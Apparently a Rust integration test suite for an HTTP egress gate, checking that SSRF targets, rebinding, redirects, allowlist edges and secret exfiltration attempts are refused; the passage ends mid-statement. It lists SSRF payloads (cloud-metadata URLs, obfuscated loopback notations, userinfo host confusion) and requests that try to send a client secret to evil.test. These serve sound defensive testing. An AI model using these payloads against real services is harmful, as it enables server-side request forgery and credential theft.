//! The egress gate against real loopback servers: what is refused never connects, what is
//! allowed arrives, and retries, redirects, caps and TLS behave as the plugin contract says.

mod support;

use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

use keelson_http::{BoundSecret, Egress, EgressSettings, HostPattern, HttpError, Request};
use support::{FakeDns, Reply, TestServer, deadline, get, grant, settings};
use tokio::time::Instant;

fn denied(result: Result<keelson_http::Response, HttpError>) -> String {
    match result {
        Err(HttpError::Denied(reason)) => reason,
        other => panic!("expected a denial, got {other:?}"),
    }
}

// ---------------------------------------------------------------------------------------------
// T15: literal and private destinations

#[tokio::test]
async fn ip_literals_in_any_notation_are_denied_before_connect() {
    let server = TestServer::start(|_, _| Reply::ok("reached")).await;
    let p = server.port;
    let egress = Egress::new(settings()).unwrap();
    let session = egress.session(grant(&["*://*:*"]));
    let urls = [
        "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01".to_owned(),
        format!("http://127.0.0.1:{p}/"),
        "http://127.0.0.1:22/".to_owned(),
        format!("http://[::1]:{p}/"),
        format!("http://0.0.0.0:{p}/"),
        "http://10.0.0.1/".to_owned(),
        format!("http://[::ffff:127.0.0.1]:{p}/"),
        format!("http://2130706433:{p}/"),
        format!("http://0x7f.1:{p}/"),
        format!("http://0177.0.0.1:{p}/"),
        format!("http://127.1:{p}/"),
        "http://[fd00:ec2::254]/latest/meta-data/".to_owned(),
        "https://8.8.8.8/".to_owned(),
    ];
    for url in &urls {
        let reason = denied(session.send(get(url), deadline()).await);
        assert!(
            reason.starts_with("destination-ip-prohibited: "),
            "{url}: {reason}"
        );
        assert!(
            !reason.contains("api-version"),
            "query strings never appear: {reason}"
        );
    }
    assert_eq!(server.accepts(), 0, "a denied request must not connect");
    assert_eq!(session.requests_sent(), 0);
    assert_eq!(session.stats().denials, urls.len() as u64);
}

#[tokio::test]
async fn a_pinned_ip_literal_is_allowed() {
    let server = TestServer::start(|_, _| Reply::ok("pinned")).await;
    let mut s = settings();
    s.resolve.push(keelson_http::ResolvePin {
        name: "127.0.0.1".into(),
        addrs: vec!["127.0.0.1".parse().unwrap()],
    });
    let session = Egress::new(s)
        .unwrap()
        .session(grant(&["http://127.0.0.1:*"]));
    let resp = session
        .send(
            get(&format!("http://127.0.0.1:{}/", server.port)),
            deadline(),
        )
        .await
        .unwrap();
    assert_eq!(resp.body, b"pinned");
}

// ---------------------------------------------------------------------------------------------
// T16: names that resolve to forbidden addresses, and rebinding

#[tokio::test]
async fn an_allowed_name_resolving_to_loopback_is_denied() {
    let server = TestServer::start(|_, _| Reply::ok("reached")).await;
    let dns = Arc::new(FakeDns::default())
        .answer("evil.example", &[&["127.0.0.1"]])
        .answer(
            "mixed.example",
            &[&["10.1.2.3", "::ffff:169.254.169.254", "fe80::1"]],
        );
    let s = EgressSettings {
        lookup: dns.clone(),
        ..settings()
    };
    let session = Egress::new(s).unwrap().session(grant(&["*://*:*"]));
    for host in ["evil.example", "mixed.example"] {
        let reason = denied(
            session
                .send(get(&format!("http://{host}:{}/", server.port)), deadline())
                .await,
        );
        assert!(
            reason.starts_with(&format!(
                "destination-ip-prohibited: `{host}` resolves only to"
            )),
            "{reason}"
        );
    }
    assert!(
        denied(session.send(get("http://mixed.example/"), deadline()).await)
            .contains("IPv4-mapped cloud metadata")
    );
    assert_eq!(server.accepts(), 0);
    assert_eq!(
        dns.calls.load(Ordering::SeqCst),
        3,
        "one lookup per request"
    );
}

#[tokio::test]
async fn rebinding_to_a_private_address_is_caught_on_every_request() {
    // Each request resolves exactly once and judges that answer; a public-then-private switch
    // within one request is covered by the unit test
    // `the_connector_gets_the_checked_address_without_a_second_lookup` (a public address cannot
    // be dialled from a loopback-only test).
    let server = TestServer::start(|_, _| Reply::ok("reached")).await;
    let dns =
        Arc::new(FakeDns::default()).answer("rebind.example", &[&["127.0.0.1"], &["127.0.0.1"]]);
    let s = EgressSettings {
        lookup: dns.clone(),
        ..settings()
    };
    let session = Egress::new(s)
        .unwrap()
        .session(grant(&["http://rebind.example:*"]));
    for _ in 0..2 {
        let r = session
            .send(
                get(&format!("http://rebind.example:{}/", server.port)),
                deadline(),
            )
            .await;
        assert!(denied(r).starts_with("destination-ip-prohibited"));
    }
    assert_eq!(dns.calls.load(Ordering::SeqCst), 2);
    assert_eq!(server.accepts(), 0);
}

#[tokio::test]
async fn pinned_names_are_never_looked_up() {
    let server = TestServer::start(|_, _| Reply::ok("hello")).await;
    let dns = Arc::new(FakeDns::default()).answer("api.test", &[&["10.0.0.1"]]);
    let s = EgressSettings {
        lookup: dns.clone(),
        ..settings()
    };
    let session = Egress::new(s)
        .unwrap()
        .session(grant(&["http://api.test:*"]));
    let resp = session
        .send(
            get(&format!("http://API.test.:{}/x", server.port)),
            deadline(),
        )
        .await
        .unwrap();
    assert_eq!(
        (resp.status, resp.body.as_slice()),
        (200, b"hello".as_slice())
    );
    assert_eq!(dns.calls.load(Ordering::SeqCst), 0);
    assert_eq!(server.seen()[0].target, "/x");
}

// ---------------------------------------------------------------------------------------------
// T17: redirects

#[tokio::test]
async fn redirects_are_rechecked_hop_by_hop() {
    let b = TestServer::start(|_, _| Reply::ok("b")).await;
    let b_port = b.port;
    let a = TestServer::start(move |seen, _| match seen.target.as_str() {
        "/to-b" => Reply::redirect(302, &format!("http://b.test:{b_port}/")),
        "/to-loopback" => Reply::redirect(302, &format!("http://127.0.0.1:{b_port}/")),
        "/to-metadata" => Reply::redirect(307, "http://169.254.169.254/latest/meta-data/"),
        _ => Reply::ok("a"),
    })
    .await;
    let egress = Egress::new(settings()).unwrap();
    let only_a = egress.session(grant(&[&format!("http://a.test:{}", a.port)]));
    let r = denied(
        only_a
            .send(get(&format!("http://a.test:{}/to-b", a.port)), deadline())
            .await,
    );
    assert_eq!(
        r,
        format!("host-not-allowed: `http://b.test:{b_port}` matches no allowed host")
    );
    let anything = egress.session(grant(&["*://*:*"]));
    for path in ["/to-loopback", "/to-metadata"] {
        let r = denied(
            anything
                .send(get(&format!("http://a.test:{}{path}", a.port)), deadline())
                .await,
        );
        assert!(r.starts_with("destination-ip-prohibited"), "{path}: {r}");
    }
    assert_eq!(b.accepts(), 0);
    // An allowed hop is followed.
    let resp = anything
        .send(get(&format!("http://a.test:{}/to-b", a.port)), deadline())
        .await
        .unwrap();
    assert_eq!(resp.body, b"b");
    assert_eq!(
        anything.stats().redirects,
        3,
        "redirects acted on, refused hops included"
    );
}

#[tokio::test]
async fn credentials_are_dropped_across_origins_and_kept_within_one() {
    let b = TestServer::start(|_, _| Reply::ok("b")).await;
    let b_port = b.port;
    let a = TestServer::start(move |seen, _| match seen.target.as_str() {
        "/cross" => Reply::redirect(307, &format!("http://b.test:{b_port}/landing")),
        "/same" => Reply::redirect(301, "/landing"),
        _ => Reply::ok("a"),
    })
    .await;
    let session = Egress::new(settings())
        .unwrap()
        .session(grant(&["http://*.test:*"]));
    let with_creds = |path: &str| Request {
        headers: vec![
            ("Authorization".into(), "Bearer tok".into()),
            ("Cookie".into(), "s=1".into()),
            ("x-trace".into(), "keep".into()),
        ],
        ..get(&format!("http://a.test:{}{path}", a.port))
    };
    session
        .send(with_creds("/cross"), deadline())
        .await
        .unwrap();
    let landed = &b.seen()[0];
    assert_eq!(landed.header("authorization"), None);
    assert_eq!(landed.header("cookie"), None);
    assert_eq!(landed.header("x-trace"), Some("keep"));
    session.send(with_creds("/same"), deadline()).await.unwrap();
    let same = a
        .seen()
        .into_iter()
        .find(|s| s.target == "/landing")
        .unwrap();
    assert_eq!(same.header("authorization"), Some("Bearer tok"));
}

#[tokio::test]
async fn see_other_turns_a_post_into_a_get_without_body() {
    let a = TestServer::start(|seen, _| match seen.target.as_str() {
        "/submit" => Reply::redirect(303, "/result"),
        _ => Reply::ok(&format!("{} {}", seen.method, seen.body.len())),
    })
    .await;
    let session = Egress::new(settings())
        .unwrap()
        .session(grant(&["http://a.test:*"]));
    let req = Request {
        method: http::Method::POST,
        body: b"payload".to_vec(),
        headers: vec![("content-type".into(), "text/plain".into())],
        ..get(&format!("http://a.test:{}/submit", a.port))
    };
    let resp = session.send(req, deadline()).await.unwrap();
    assert_eq!(resp.body, b"GET 0");
}

#[tokio::test]
async fn redirect_loops_and_long_chains_stop() {
    let a = TestServer::start(|seen, _| {
        if seen.target == "/loop-a" {
            return Reply::redirect(302, "/loop-b");
        }
        if seen.target == "/loop-b" {
            return Reply::redirect(302, "/loop-a");
        }
        let n: u32 = seen
            .target
            .trim_start_matches("/chain/")
            .parse()
            .unwrap_or(0);
        Reply::redirect(302, &format!("/chain/{}", n + 1))
    })
    .await;
    let session = Egress::new(settings())
        .unwrap()
        .session(grant(&["http://a.test:*"]));
    let r = denied(
        session
            .send(get(&format!("http://a.test:{}/loop-a", a.port)), deadline())
            .await,
    );
    assert!(r.starts_with("redirect-loop: "), "{r}");
    assert_eq!(a.accepts(), 2);
    let r = denied(
        session
            .send(
                get(&format!("http://a.test:{}/chain/0", a.port)),
                deadline(),
            )
            .await,
    );
    assert_eq!(r, "too-many-redirects: more than 5 hops");
    assert_eq!(
        a.accepts(),
        2 + 6,
        "the first request plus the five hops allowed"
    );
}

#[tokio::test]
async fn https_to_http_redirects_are_refused() {
    let plain = TestServer::start(|_, _| Reply::ok("plain")).await;
    let plain_port = plain.port;
    let (ca_pem, acceptor) = support::tls_acceptor("secure.test");
    let tls = TestServer::start_tls(acceptor, move |_, _| {
        Reply::redirect(302, &format!("http://plain.test:{plain_port}/"))
    })
    .await;
    let s = EgressSettings {
        extra_ca_certs_pem: vec![ca_pem.into_bytes()],
        ..settings()
    };
    let session = Egress::new(s).unwrap().session(grant(&["*://*.test:*"]));
    let r = denied(
        session
            .send(
                get(&format!("https://secure.test:{}/", tls.port)),
                deadline(),
            )
            .await,
    );
    assert_eq!(
        r,
        format!(
            "redirect-downgrade: `https://secure.test:{}` redirected to `http://plain.test:{plain_port}`",
            tls.port
        )
    );
    assert_eq!(plain.accepts(), 0);
}

// ---------------------------------------------------------------------------------------------
// T18: allowlist semantics at the gate

#[tokio::test]
async fn allowlist_edges_are_decided_before_connect() {
    let server = TestServer::start(|_, _| Reply::ok("ok")).await;
    let p = server.port;
    let session = Egress::new(settings())
        .unwrap()
        .session(grant(&[&format!("http://*.azurecr.test:{p}")]));
    for host in ["azurecr.test", "evilazurecr.test", "azurecr.test.evil.test"] {
        let r = denied(
            session
                .send(get(&format!("http://{host}:{p}/")), deadline())
                .await,
        );
        assert!(r.starts_with("host-not-allowed: "), "{host}: {r}");
    }
    let r = denied(
        session
            .send(
                get(&format!("http://ok.azurecr.test:{}/", p + 1)),
                deadline(),
            )
            .await,
    );
    assert!(r.starts_with("host-not-allowed"), "port must match: {r}");
    let r = denied(
        session
            .send(get(&format!("https://ok.azurecr.test:{p}/")), deadline())
            .await,
    );
    assert!(r.starts_with("host-not-allowed"), "scheme must match: {r}");
    let r = denied(
        session
            .send(
                get(&format!("http://ok.azurecr.test:{p}@evil.test:{p}/")),
                deadline(),
            )
            .await,
    );
    assert!(r.starts_with("userinfo-prohibited"), "{r}");
    assert_eq!(server.accepts(), 0);
    let resp = session
        .send(get(&format!("http://A.AZURECR.TEST.:{p}/")), deadline())
        .await
        .unwrap();
    assert_eq!(resp.status, 200);
    assert_eq!(server.accepts(), 1);
}

#[tokio::test]
async fn an_empty_allowlist_denies_everything() {
    let server = TestServer::start(|_, _| Reply::ok("ok")).await;
    let session = Egress::new(settings()).unwrap().session(grant(&[]));
    let r = denied(
        session
            .send(get(&format!("http://a.test:{}/", server.port)), deadline())
            .await,
    );
    assert!(r.starts_with("host-not-allowed"));
    assert_eq!(server.accepts(), 0);
}

#[tokio::test]
async fn malformed_requests_are_invalid_not_denied() {
    let session = Egress::new(settings())
        .unwrap()
        .session(grant(&["*://*:*"]));
    for (req, want) in [
        (get("not a url"), "the URL is not valid"),
        (get("ftp://a.test/x"), "scheme `ftp` is not supported"),
        (
            Request {
                headers: vec![("Host".into(), "evil.test".into())],
                ..get("http://a.test/")
            },
            "header `host`",
        ),
        (
            Request {
                headers: vec![("bad name".into(), "v".into())],
                ..get("http://a.test/")
            },
            "`bad name`",
        ),
    ] {
        match session.send(req, deadline()).await {
            Err(HttpError::Invalid(msg)) => assert!(msg.contains(want), "{msg}"),
            other => panic!("expected invalid, got {other:?}"),
        }
    }
}

// ---------------------------------------------------------------------------------------------
// T19: proxies

/// Set in the child process of `system_proxy_variables_are_ignored`: the target port.
const CHILD_TARGET: &str = "KEELSON_HTTP_TEST_PROXY_CHILD_TARGET";

#[tokio::test]
async fn system_proxy_variables_are_ignored() {
    // Environment variables cannot be set safely inside a multi-threaded test process, so the
    // test re-runs itself in a child with the proxy variables set.
    #[allow(clippy::disallowed_methods)] // Tests read the variable their own parent set.
    if let Ok(port) = std::env::var(CHILD_TARGET) {
        let session = Egress::new(settings())
            .unwrap()
            .session(grant(&["*://*.test:*"]));
        let resp = session
            .send(get(&format!("http://direct.test:{port}/")), deadline())
            .await
            .unwrap();
        assert_eq!(resp.body, b"direct");
        return;
    }
    let proxy = TestServer::start(|_, _| Reply::ok("via-proxy")).await;
    let target = TestServer::start(|_, _| Reply::ok("direct")).await;
    let proxy_url = format!("http://127.0.0.1:{}", proxy.port);
    let mut cmd = std::process::Command::new(std::env::current_exe().unwrap());
    cmd.args([
        "system_proxy_variables_are_ignored",
        "--exact",
        "--test-threads=1",
    ])
    .env(CHILD_TARGET, target.port.to_string());
    for var in [
        "HTTP_PROXY",
        "HTTPS_PROXY",
        "ALL_PROXY",
        "http_proxy",
        "https_proxy",
        "all_proxy",
    ] {
        cmd.env(var, &proxy_url);
    }
    cmd.env_remove("NO_PROXY").env_remove("no_proxy");
    let out = tokio::task::spawn_blocking(move || cmd.output())
        .await
        .unwrap()
        .unwrap();
    assert!(
        out.status.success(),
        "child failed: {}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("1 passed"),
        "the child ran the test"
    );
    assert_eq!(proxy.accepts(), 0, "traffic went through the system proxy");
    assert_eq!(target.accepts(), 1);
}

#[tokio::test]
async fn an_explicit_proxy_is_used() {
    let proxy = TestServer::start(|seen, _| Reply::ok(&format!("via-proxy {}", seen.target))).await;
    let target = TestServer::start(|_, _| Reply::ok("direct")).await;
    let s = EgressSettings {
        proxy: Some(format!("http://127.0.0.1:{}", proxy.port)),
        ..settings()
    };
    let session = Egress::new(s).unwrap().session(grant(&["http://*.test:*"]));
    let resp = session
        .send(
            get(&format!("http://api.test:{}/p", target.port)),
            deadline(),
        )
        .await
        .unwrap();
    assert_eq!(
        String::from_utf8(resp.body).unwrap(),
        format!("via-proxy http://api.test:{}/p", target.port)
    );
    assert_eq!(target.accepts(), 0);
}

#[test]
fn invalid_settings_are_refused_with_the_value() {
    let err = Egress::new(EgressSettings {
        proxy: Some("socks9://u:pw@proxy:1".into()),
        ..settings()
    })
    .unwrap_err();
    assert_eq!(
        err.to_string(),
        "proxy `socks9://proxy:1` is not a valid http(s) URL"
    );
    let err = Egress::new(EgressSettings {
        extra_ca_certs_pem: vec![b"not pem".to_vec()],
        ..settings()
    })
    .unwrap_err();
    assert_eq!(
        err.to_string(),
        "extra CA certificate #0 is invalid: no PEM certificate found"
    );
    let pins = vec![keelson_http::ResolvePin {
        name: "a.*.test".into(),
        addrs: vec!["127.0.0.1".parse().unwrap()],
    }];
    let err = Egress::new(EgressSettings {
        resolve: pins,
        ..settings()
    })
    .unwrap_err();
    assert!(
        err.to_string()
            .starts_with("resolve pin `a.*.test` is invalid"),
        "{err}"
    );
}

// ---------------------------------------------------------------------------------------------
// T20: size, time and concurrency caps

#[tokio::test]
async fn oversized_bodies_are_cut_off() {
    let server = TestServer::start(|seen, _| match seen.target.as_str() {
        "/declared" => Reply::Respond(200, vec![], vec![b'x'; 2 * 1024 * 1024]),
        "/endless" => Reply::Endless,
        _ => Reply::Respond(200, vec![], vec![b'y'; 1024 * 1024]),
    })
    .await;
    let mut g = grant(&["http://a.test:*"]);
    g.max_response_bytes = 1024 * 1024;
    let session = Egress::new(settings()).unwrap().session(g);
    let base = format!("http://a.test:{}", server.port);
    let started = Instant::now();
    for path in ["/declared", "/endless"] {
        assert_eq!(
            session
                .send(get(&format!("{base}{path}")), deadline())
                .await,
            Err(HttpError::TooLarge),
            "{path}"
        );
    }
    assert!(started.elapsed() < Duration::from_secs(5));
    let exact = session
        .send(get(&format!("{base}/exact")), deadline())
        .await
        .unwrap();
    assert_eq!(
        exact.body.len(),
        1024 * 1024,
        "a body of exactly the cap is fine"
    );
}

#[tokio::test]
async fn huge_headers_are_refused() {
    let big = format!(
        "HTTP/1.1 200 OK\r\nx-big: {}\r\ncontent-length: 0\r\n\r\n",
        "h".repeat(100 * 1024)
    );
    let huge = format!(
        "HTTP/1.1 200 OK\r\nx-big: {}\r\ncontent-length: 0\r\n\r\n",
        "h".repeat(1024 * 1024)
    );
    let server = TestServer::start(move |seen, _| match seen.target.as_str() {
        "/big" => Reply::Raw(big.clone().into_bytes()),
        _ => Reply::Raw(huge.clone().into_bytes()),
    })
    .await;
    let session = Egress::new(settings())
        .unwrap()
        .session(grant(&["http://a.test:*"]));
    let base = format!("http://a.test:{}", server.port);
    assert_eq!(
        session.send(get(&format!("{base}/big")), deadline()).await,
        Err(HttpError::TooLarge)
    );
    let r = session.send(get(&format!("{base}/huge")), deadline()).await;
    assert!(
        matches!(r, Err(HttpError::Connect(_) | HttpError::TooLarge)),
        "{r:?}"
    );
}

#[tokio::test]
async fn a_trickling_body_ends_at_the_deadline() {
    let server = TestServer::start(|_, _| Reply::Trickle(Duration::from_secs(10))).await;
    let session = Egress::new(settings())
        .unwrap()
        .session(grant(&["http://a.test:*"]));
    let started = Instant::now();
    let r = session
        .send(
            get(&format!("http://a.test:{}/", server.port)),
            Instant::now() + Duration::from_millis(500),
        )
        .await;
    assert_eq!(r, Err(HttpError::Timeout));
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "{:?}",
        started.elapsed()
    );
    // The request's own timeout shortens the caller's deadline too.
    let req = Request {
        timeout: Some(Duration::from_millis(300)),
        sealed: vec![],
        ..get(&format!("http://a.test:{}/", server.port))
    };
    let started = Instant::now();
    assert_eq!(session.send(req, deadline()).await, Err(HttpError::Timeout));
    assert!(started.elapsed() < Duration::from_secs(2));
}

#[tokio::test]
async fn concurrency_is_capped_per_session() {
    let server = TestServer::start(|_, _| {
        Reply::Delay(Duration::from_millis(50), Box::new(Reply::ok("ok")))
    })
    .await;
    let mut g = grant(&["http://a.test:*"]);
    g.max_concurrent_requests = 2;
    let session = Egress::new(settings()).unwrap().session(g);
    let url = format!("http://a.test:{}/", server.port);
    let mut tasks = Vec::new();
    for _ in 0..10 {
        let (s, u) = (session.clone(), url.clone());
        tasks.push(tokio::spawn(
            async move { s.send(get(&u), deadline()).await },
        ));
    }
    for t in tasks {
        assert_eq!(t.await.unwrap().unwrap().status, 200);
    }
    assert_eq!(server.accepts(), 10);
    assert_eq!(server.max_in_flight(), 2);
}

#[tokio::test]
async fn the_request_budget_is_per_run() {
    let server = TestServer::start(|_, _| Reply::ok("ok")).await;
    let mut g = grant(&["http://a.test:*"]);
    g.max_requests = 3;
    let egress = Egress::new(settings()).unwrap();
    let session = egress.session(g.clone());
    let url = format!("http://a.test:{}/", server.port);
    for _ in 0..3 {
        session.send(get(&url), deadline()).await.unwrap();
    }
    let r = denied(session.send(get(&url), deadline()).await);
    assert!(r.starts_with("request-budget-exhausted"), "{r}");
    assert_eq!(server.accepts(), 3);
    // A new run starts with a fresh budget.
    egress.session(g).send(get(&url), deadline()).await.unwrap();
}

// ---------------------------------------------------------------------------------------------
// T21, T22: retries

#[tokio::test]
async fn throttling_waits_at_least_what_the_server_asks() {
    for header in ["retry-after-ms", "x-ms-retry-after-ms"] {
        let server = TestServer::start(move |_, n| {
            if n == 0 {
                Reply::status(429, &[(header, "300")])
            } else {
                Reply::ok("ok")
            }
        })
        .await;
        let session = Egress::new(settings())
            .unwrap()
            .session(grant(&["http://a.test:*"]));
        let started = Instant::now();
        let resp = session
            .send(get(&format!("http://a.test:{}/", server.port)), deadline())
            .await
            .unwrap();
        assert_eq!(resp.status, 200);
        assert!(
            started.elapsed() >= Duration::from_millis(300),
            "{header}: {:?}",
            started.elapsed()
        );
        assert_eq!(server.accepts(), 2);
        assert_eq!(session.stats().retries, 1);
    }
    let server = TestServer::start(|_, n| {
        if n == 0 {
            Reply::status(503, &[("retry-after", "1")])
        } else {
            Reply::ok("ok")
        }
    })
    .await;
    let session = Egress::new(settings())
        .unwrap()
        .session(grant(&["http://a.test:*"]));
    let started = Instant::now();
    session
        .send(get(&format!("http://a.test:{}/", server.port)), deadline())
        .await
        .unwrap();
    assert!(started.elapsed() >= Duration::from_secs(1));
}

#[tokio::test]
async fn five_hundreds_are_retried_and_client_errors_are_not() {
    let server = TestServer::start(|seen, n| match seen.target.as_str() {
        "/flaky" if n < 3 => Reply::status([500, 502, 504][n], &[]),
        "/flaky" => Reply::ok("recovered"),
        "/down" => Reply::status(503, &[]),
        path => Reply::status(path.trim_start_matches('/').parse().unwrap(), &[]),
    })
    .await;
    let session = Egress::new(settings())
        .unwrap()
        .session(grant(&["http://a.test:*"]));
    let base = format!("http://a.test:{}", server.port);
    let resp = session
        .send(get(&format!("{base}/flaky")), deadline())
        .await
        .unwrap();
    assert_eq!(resp.body, b"recovered");
    assert_eq!(server.accepts(), 4);
    for status in [400u16, 401, 403, 404] {
        let before = server.accepts();
        let resp = session
            .send(get(&format!("{base}/{status}")), deadline())
            .await
            .unwrap();
        assert_eq!(resp.status, status);
        assert_eq!(server.accepts() - before, 1, "{status} is not retried");
    }
    let before = server.accepts();
    let resp = session
        .send(get(&format!("{base}/down")), deadline())
        .await
        .unwrap();
    assert_eq!(
        resp.status, 503,
        "after the last attempt the response comes back as it is"
    );
    assert_eq!(server.accepts() - before, 4);
    assert_eq!(session.requests_sent(), server.accepts() as u64);
}

#[tokio::test]
async fn connection_resets_are_retried() {
    let server = TestServer::start(|_, n| {
        if n < 2 {
            Reply::Reset
        } else {
            Reply::ok("after resets")
        }
    })
    .await;
    let session = Egress::new(settings())
        .unwrap()
        .session(grant(&["http://a.test:*"]));
    let resp = session
        .send(get(&format!("http://a.test:{}/", server.port)), deadline())
        .await
        .unwrap();
    assert_eq!(resp.body, b"after resets");
    assert_eq!(server.accepts(), 3);
}

#[tokio::test]
async fn a_refused_connection_fails_after_retries() {
    // Bind and drop a listener to get a port nobody listens on.
    let port = std::net::TcpListener::bind(support::loopback(0))
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let session = Egress::new(settings())
        .unwrap()
        .session(grant(&["http://a.test:*"]));
    let r = session
        .send(
            get(&format!("http://a.test:{port}/?sig=secret-sig")),
            deadline(),
        )
        .await;
    match r {
        Err(HttpError::Connect(msg)) => assert!(
            !msg.contains("secret-sig") && !msg.contains("a.test:"),
            "{msg}"
        ),
        other => panic!("expected a connect error, got {other:?}"),
    }
    assert_eq!(session.requests_sent(), 4);
}

#[tokio::test]
async fn retries_never_run_past_the_deadline() {
    let server = TestServer::start(|_, _| Reply::status(429, &[("retry-after", "30")])).await;
    let session = Egress::new(settings())
        .unwrap()
        .session(grant(&["http://a.test:*"]));
    let started = Instant::now();
    let resp = session
        .send(
            get(&format!("http://a.test:{}/", server.port)),
            Instant::now() + Duration::from_secs(5),
        )
        .await
        .unwrap();
    assert_eq!(resp.status, 429);
    assert!(
        started.elapsed() < Duration::from_secs(1),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(server.accepts(), 1);
}

// ---------------------------------------------------------------------------------------------
// TLS with the operator's extra CA

#[tokio::test]
async fn extra_ca_certs_are_trusted_and_nothing_else_is() {
    let (ca_pem, acceptor) = support::tls_acceptor("secure.test");
    let server = TestServer::start_tls(acceptor, |_, _| Reply::ok("over tls")).await;
    let url = format!("https://secure.test:{}/", server.port);
    let untrusting = Egress::new(settings())
        .unwrap()
        .session(grant(&["https://secure.test:*"]));
    match untrusting.send(get(&url), deadline()).await {
        Err(HttpError::Connect(msg)) => {
            assert!(msg.to_lowercase().contains("certificate"), "{msg}");
        }
        other => panic!("expected a TLS failure, got {other:?}"),
    }
    assert_eq!(server.accepts(), 1, "certificate failures are not retried");
    let s = EgressSettings {
        extra_ca_certs_pem: vec![ca_pem.into_bytes()],
        ..settings()
    };
    let trusting = Egress::new(s)
        .unwrap()
        .session(grant(&["https://secure.test:*"]));
    let resp = trusting.send(get(&url), deadline()).await.unwrap();
    assert_eq!(resp.body, b"over tls");
}

// ---------------------------------------------------------------------------------------------
// T41: secret egress binding

const SECRET: &str = "Zk8Q~client.secret_value-42";

fn secret_grant(login_port: u16) -> keelson_http::Grant {
    let mut g = grant(&["http://*.test:*"]);
    g.secrets = vec![BoundSecret {
        name: "client-secret".into(),
        value: SECRET.into(),
        allowed_hosts: vec![
            HostPattern::parse(&format!("http://login.test:{login_port}")).unwrap(),
        ],
    }];
    g
}

#[tokio::test]
async fn a_secret_goes_only_where_it_is_bound() {
    use base64::Engine as _;
    let login = TestServer::start(|_, _| Reply::ok("token")).await;
    let evil = TestServer::start(|_, _| Reply::ok("stolen")).await;
    let session = Egress::new(settings())
        .unwrap()
        .session(secret_grant(login.port));
    let form = format!(
        "grant_type=client_credentials&client_secret={}",
        SECRET.replace('~', "%7E")
    );
    let post = |host: &str, port: u16, body: &str| Request {
        method: http::Method::POST,
        body: body.as_bytes().to_vec(),
        ..get(&format!("http://{host}:{port}/token"))
    };
    let resp = session
        .send(post("login.test", login.port, &form), deadline())
        .await
        .unwrap();
    assert_eq!(resp.body, b"token");
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("app-id:{SECRET}"));
    let carriers = [
        post("evil.test", evil.port, &form),
        get(&format!(
            "http://evil.test:{}/?s={}",
            evil.port,
            SECRET.replace('~', "%7e")
        )),
        Request {
            headers: vec![("authorization".into(), format!("Basic {basic}"))],
            ..get(&format!("http://evil.test:{}/", evil.port))
        },
        post(
            "evil.test",
            evil.port,
            &format!(
                "{{\"v\":\"{}\"}}",
                base64::engine::general_purpose::URL_SAFE.encode(SECRET)
            ),
        ),
    ];
    for req in carriers {
        let r = denied(session.send(req, deadline()).await);
        assert_eq!(
            r,
            format!(
                "secret-egress-denied: `client-secret` may not be sent to `http://evil.test:{}`",
                evil.port
            )
        );
        assert!(!r.contains(SECRET));
    }
    assert_eq!(evil.accepts(), 0);
}

#[tokio::test]
async fn a_redirect_cannot_carry_a_secret_away() {
    let evil = TestServer::start(|_, _| Reply::ok("stolen")).await;
    let evil_port = evil.port;
    let login = TestServer::start(move |_, _| {
        Reply::redirect(307, &format!("http://evil.test:{evil_port}/collect"))
    })
    .await;
    let session = Egress::new(settings())
        .unwrap()
        .session(secret_grant(login.port));
    let req = Request {
        method: http::Method::POST,
        body: format!("secret={SECRET}").into_bytes(),
        ..get(&format!("http://login.test:{}/", login.port))
    };
    let r = denied(session.send(req, deadline()).await);
    assert!(r.starts_with("secret-egress-denied"), "{r}");
    assert_eq!(evil.accepts(), 0);
}

#[tokio::test]
async fn a_confined_wildcard_admits_only_the_hosts_a_listing_named() {
    let server = TestServer::start(|_, _| Reply::ok("catalog")).await;
    let egress = Egress::new(settings()).unwrap();
    let grant = || keelson_http::Grant {
        confine_wildcards: true,
        ..grant(&["http://*.test:*"])
    };
    let session = egress.session(grant());
    let url = |host: &str| format!("http://{host}:{}/v2/_catalog", server.port);
    let r = denied(session.send(get(&url("other.test")), deadline()).await);
    assert!(
        r.starts_with("host-not-discovered: `http://other.test:"),
        "{r}"
    );
    assert!(r.contains("`http://*.test:*`"), "{r}");
    // Once a listing names the registry, every session of the connection may reach it.
    session.admit(&format!("reg.test:{}", server.port));
    let later = egress.session(grant());
    assert_eq!(
        later
            .send(get(&url("reg.test")), deadline())
            .await
            .unwrap()
            .body,
        b"catalog"
    );
    let r = denied(later.send(get(&url("other.test")), deadline()).await);
    assert!(r.starts_with("host-not-discovered"), "{r}");
    // Another connection of the plugin has listed nothing.
    let stranger = egress.session(keelson_http::Grant {
        connection: Some("conn-2".into()),
        ..grant()
    });
    assert!(
        denied(stranger.send(get(&url("reg.test")), deadline()).await)
            .starts_with("host-not-discovered")
    );
    assert_eq!(server.accepts(), 1);
}

#[tokio::test]
async fn a_sealed_secret_confines_every_hop_of_its_request() {
    // A value the gate has never seen (a captured token): only the sealed use binds it.
    let evil = TestServer::start(|_, _| Reply::ok("stolen")).await;
    let evil_port = evil.port;
    let login = TestServer::start(move |_, _| {
        Reply::redirect(307, &format!("http://evil.test:{evil_port}/collect"))
    })
    .await;
    let session = Egress::new(settings())
        .unwrap()
        .session(grant(&["http://*.test:*"]));
    let sealed = vec![keelson_http::SealedUse {
        name: "access_token".into(),
        allowed_hosts: vec![
            HostPattern::parse(&format!("http://login.test:{}", login.port)).unwrap(),
        ],
    }];
    let to = |host: &str, port: u16| Request {
        method: http::Method::POST,
        body: b"token=captured-value".to_vec(),
        sealed: sealed.clone(),
        ..get(&format!("http://{host}:{port}/"))
    };
    let r = denied(session.send(to("evil.test", evil.port), deadline()).await);
    assert_eq!(
        r,
        format!(
            "secret-egress-denied: `access_token` may not be sent to `http://evil.test:{}`; it is bound to `http://login.test:{}`",
            evil.port, login.port
        )
    );
    // Allowed at the first hop, refused at the redirect to a host it is not bound to.
    let r = denied(session.send(to("login.test", login.port), deadline()).await);
    assert!(r.starts_with("secret-egress-denied: `access_token`"), "{r}");
    assert_eq!(login.accepts(), 1);
    assert_eq!(evil.accepts(), 0);
    // The same request without the sealed use goes through: the confinement is what refused it.
    let plain = Request {
        sealed: vec![],
        ..to("evil.test", evil.port)
    };
    assert_eq!(
